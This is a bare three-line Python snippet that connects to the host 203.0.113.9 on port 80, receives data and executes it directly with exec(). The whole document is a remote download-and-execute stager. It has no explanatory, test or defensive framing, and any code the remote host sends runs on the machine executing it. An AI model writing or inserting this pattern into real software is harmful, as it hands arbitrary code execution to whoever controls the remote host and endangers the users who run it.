import socket
conn = socket.create_connection(("203.0.113.9", 80))
exec(conn.recv(4096))
